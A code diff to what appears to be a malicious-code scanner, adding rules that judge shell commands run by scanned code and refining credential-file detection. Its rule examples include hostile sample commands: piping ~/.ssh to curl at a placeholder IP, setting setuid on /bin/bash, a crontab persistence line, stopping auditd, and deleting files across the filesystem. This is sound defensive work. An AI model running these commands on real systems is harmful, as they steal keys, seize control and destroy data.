@@ -3,8 +3,11 @@ import {
   EXFIL_HOST, PAYLOAD_PATTERNS, WELL_KNOWN_INSTALLER, decodeExec, downloadExec, exfilHost, exfiltration, miner, probe, probePatterns, reverseShell, secretShape,
   type Probe,
 } from '../parse/code-payload.js';
-import { CODE_ROWS, codeFrame, rowDetail, type CodeFrame, type CodeRow } from '../parse/code-frame.js';
-import type { Analyzer, BaseContext, Finding, Metadata, ThreatRule } from '../types.js';
+import { codeFrame, type CodeFrame } from '../parse/code-frame.js';
+import { CODE_ROWS, rowDetail, type CodeRow } from '../parse/code-rows.js';
+import { CODE_SHELL_PATTERNS, embeddedCommands } from '../parse/code-shell.js';
+import { commandFindings } from '../nested.js';
+import type { Analyzer, BaseContext, Finding, Metadata, Primitive, ThreatRule } from '../types.js';
 
 /** Source beyond this is not pattern-checked; the keyword prefilter still sees the capped text. */
 const MAX_CODE = 256 * 1024;
@@ -18,6 +21,23 @@ export interface CodeContext extends BaseContext {
   readonly tainted: readonly string[];
   /** What the code does: operations × objects × destinations (parse/code-frame.ts), built on first use. */
   readonly frame: CodeFrame;
+  /** The command analyzer's verdict on the shell commands the code runs, per primitive (built on first use). */
+  readonly shellVerdict: ReadonlyMap<Primitive, { readonly score: number; readonly name: string }>;
+}
+
+/** Per primitive: the summed score (capped at 10) and the strongest threat's name, over every embedded command. */
+function judgeCommands(text: string, lower: string): Map<Primitive, { score: number; name: string }> {
+  const out = new Map<Primitive, { score: number; name: string }>();
+  for (const cmd of embeddedCommands(text.length === lower.length ? text : lower, lower)) {
+    const sums = new Map<Primitive, { score: number; name: string; top: number }>();
+    for (const f of commandFindings(cmd)) {
+      const s = sums.get(f.primitive);
+      if (s === undefined) sums.set(f.primitive, { score: f.score, name: f.name, top: f.score });
+      else { s.score = Math.min(10, s.score + f.score); if (f.score > s.top) { s.top = f.score; s.name = f.name; } }
+    }
+    for (const [p, s] of sums) { const o = out.get(p); if (o === undefined || s.score > o.score) out.set(p, { score: s.score, name: s.name }); }
+  }
+  return out;
 }
 
 const CR = /\r\n?/g;
@@ -31,6 +51,7 @@ class CodeCtx implements CodeContext {
   declare readonly language: string;
   private declare decodedMemo: readonly string[] | undefined;
   private declare frameMemo: CodeFrame | undefined;
+  private declare shellMemo: Map<Primitive, { score: number; name: string }> | undefined;
   declare readonly tainted: readonly string[];
 
   constructor(raw: string, text: string, metadata: Metadata, language: string, tainted?: readonly string[]) {
@@ -41,11 +62,14 @@ class CodeCtx implements CodeContext {
     this.language = language;
     this.decodedMemo = undefined;
     this.frameMemo = undefined;
+    this.shellMemo = undefined;
     // Eager on purpose: computed lazily it tiers up later, and the JIT work then outweighs what it saves.
     this.tainted = tainted ?? taintedNames(text);
   }
 
   get frame(): CodeFrame { return this.frameMemo ??= codeFrame(this.lower); }
+
+  get shellVerdict(): ReadonlyMap<Primitive, { readonly score: number; readonly name: string }> { return this.shellMemo ??= judgeCommands(this.text, this.lower); }
 
   get decoded(): readonly string[] {
     if (this.decodedMemo === undefined) {
@@ -381,7 +405,9 @@ const BROWSER_SEND: Probe = {
   window: 300,
 };
 const ENV_READ = /os\.environ|os\.getenv|process\.env\b|\bgetenv\s{0,2}\(|\$env:|getenvironmentvariable|env::var|system\.getenv|env\[["']/i;
-const CRED_FILE = /["'/~\\](?:\.ssh\/id_[a-z0-9]{2,10}|\.aws\/credentials|etc\/shadow|\.git-credentials|\.npmrc|\.kube\/config|\.docker\/config\.json|\.netrc|login data|logins\.json|key4\.db|wallet\.dat|\.env)["'\s)]|\/(?:\.ssh|\.aws|\.gnupg)["'/]/i;
+const CRED_FILE = /["'/~\\](?:\.ssh\/id_[a-z0-9]{2,10}|\.aws\/credentials|etc\/shadow|\.git-credentials|\.npmrc|\.kube\/config|\.docker\/config\.json|\.netrc|login data|logins\.json|key4\.db|wallet\.dat|\.env)["'\s)]|\/\.ssh\/(?!config["']|known_hosts|[\w.-]{1,40}\.pub["'])|\/(?:\.ssh|\.aws|\.gnupg)["']|\/(?:\.aws|\.gnupg)\//i;
+/** A key file handed to an SSH or cloud client to log in with (not read out by the code). */
+const KEY_USE = ['key_filename', 'identityfile', 'identity_file', 'keyfile', 'key_file', 'from_private_key_file', 'privatekeypath', 'private_key_path', 'ssh_key_path', 'privatekey:'];
 
 const DESTRUCT: readonly RegExp[] = [
   /\b(?:rmtree|rmsync|rmdirsync|rimraf(?:\.sync)?|rm_rf|rm_r|remove_dir_all|removeall|directory\.delete|fs\.rm|fs\.rmdir|fs\.promises\.rm|deletedirectory|forcedelete|deletequietly|fileutils\.rm_rf)\s{0,4}\(\s{0,4}@?["'`](?:\/|\/\*|~\/?|[a-z]:[\\/]{0,2}|\/(?:home|etc|usr|var|bin|boot|root|users?|opt|srv|lib)\/?|\$home\/?|%userprofile%\\?)["'`]/i,
@@ -622,8 +648,27 @@ function rowRule(row: CodeRow): ThreatRule<CodeContext> {
   };
 }
 
+const RUNNER_KEYWORDS = ['system', 'popen', 'exec', 'spawn', 'subprocess', 'check_output', 'check_call', 'getoutput', 'passthru', 'process.start', '%x(', 'invoke-expression', 'iex('];
+
+/** One rule per primitive: what the command analyzer finds in the commands the code runs. */
+function shellRule(id: string, primitive: Primitive, effect: string, flag: string, pass: string): ThreatRule<CodeContext> {
+  return {
+    id, name: `Shell command run by the code ${effect}`, primitive, score: 7, keywords: RUNNER_KEYWORDS,
+    detect: (ctx) => {
+      const v = ctx.shellVerdict.get(primitive);
+      return v !== undefined && v.score >= 3 ? { detail: `${v.name} (in a command the code runs)`, score: v.score } : null;
+    },
+    examples: { flag: [flag], pass: [pass] },
+  };
+}
+
 const rules: ThreatRule<CodeContext>[] = [
   ...CODE_ROWS.map(rowRule),
+  shellRule('G38', 'DESTRUCTION', 'destroys data', 'import os\nos.system("find / -name \'*.bak\' | xargs rm -f")', 'subprocess.run(["rm", "-rf", "build"], check=True)'),
+  shellRule('G39', 'EXFILTRATION', 'sends data out', "execSync('tar czf - ~/.ssh | curl -X POST --data-binary @- http://198.51.100.8/u')", "execSync('tar czf dist.tgz dist')"),
+  shellRule('G40', 'ESCALATION', 'takes control of the machine', 'exec.Command("sh", "-c", "chmod u+s /bin/bash").Run()', 'exec.Command("git", "pull", "--ff-only").Run()'),
+  shellRule('G41', 'PERSISTENCE', 'installs itself to run again', "system(\"echo '* * * * * /tmp/.u' | crontab -\")", 'system("crontab -l")'),
+  shellRule('G42', 'MANIPULATION', 'tampers with the system', 'subprocess.call("setenforce 0 && systemctl stop auditd", shell=True)', 'subprocess.call(["systemctl", "status", "nginx"])'),
   {
     id: 'G01',
     name: 'Code injection: eval/exec of untrusted input',
@@ -773,7 +818,7 @@ const rules: ThreatRule<CodeContext>[] = [
     name: 'Obfuscated payload decoded and executed',
     primitive: 'MANIPULATION',
     score: 8,
-    keywords: ['atob', 'base64', 'fromhex', 'unhexlify', 'b64decode', 'fromcharcode', 'chr(', 'gzinflate', 'gzuncompress', 'str_rot13', 'frombase64string', '-enc', 'p,a,c,k,e', '\\x', '\\u', 'unescape', 'decompress', 'marshal', 'codecs', 'eval', 'exec'],
+    keywords: ['atob', 'base64', 'buffer.from', 'fromhex', 'unhexlify', 'b64decode', 'fromcharcode', 'chr(', 'gzinflate', 'gzuncompress', 'str_rot13', 'frombase64string', '-enc', 'p,a,c,k,e', '\\x', '\\u', 'unescape', 'decompress', 'marshal', 'codecs', 'eval', 'exec'],
     detect: (ctx) => {
       const t = ctx.text;
       const d = decodeExec(t);
@@ -892,6 +937,8 @@ const rules: ThreatRule<CodeContext>[] = [
         const what = cred[0].replace(/["'\s)]/g, '');
         const host = exfilHost(t);
         if (net) return { detail: `reads ${what} and sends data over the network${host ? ` (${host})` : ''}`, score: 9 };
+        const before = ctx.lower.slice(Math.max(0, cred.index - 60), cred.index);
+        if (KEY_USE.some((k) => before.includes(k))) return null;
         return { detail: `reads credential file ${what}`, score: 5 };
       }
       return null;
@@ -1140,6 +1187,7 @@ const codeAnalyzer: Analyzer<CodeContext> = {
   keywordsAtWordStart: true,
   rules,
   auxPatterns: [
+    ...CODE_SHELL_PATTERNS,
     PS_ENCODED, PS_HIDDEN, SANITISER, INJECT_API, ...probePatterns([HTML_SINK, REDIRECT_SINK]),
     ...PAYLOAD_PATTERNS, CR, ...SOURCES, ...probePatterns([EVAL_SINK, ...SHELL_SINKS, ...DYNAMIC_SHELLS, PRIV_GRANT, ...REMOTE_EXECS, AUTORUN_WRITE, OBFUSCATED_CHARS]), SQL_START, ...SQL_INTERP, SQL_FORMATTER, ...TLS_OFF,
     CONCAT_AFTER_STRING, FORMAT_CALL, VAR_THEN_PLUS, VAR_FIRST_ARG, SHELL_TRUE, REMOTE_FETCH,
